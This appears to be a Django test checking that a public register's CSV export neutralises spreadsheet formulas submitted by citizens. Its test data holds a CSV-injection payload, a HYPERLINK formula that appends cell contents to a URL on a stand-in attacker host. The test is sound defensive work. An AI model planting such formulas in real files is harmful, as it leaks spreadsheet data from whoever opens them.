"""The public register's CSV does not hand a citizen's formula to the journalist who opens it."""

from __future__ import annotations

import csv
import io

from django.test import Client

from terang.ppid import services

from .conftest import T0, request_form

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik untuk detail")'


def test_register_csv_neutralises_a_formula_in_the_requested_information(citizen, ppid_officer):
    filed = services.submit_request(
        actor=citizen, form=request_form(information_requested=FORMULA), at=T0
    )
    response = Client().get("/ppid/register.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    (row,) = [r for r in rows if filed.register_number in r.values()]
    cells = list(row.values())
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
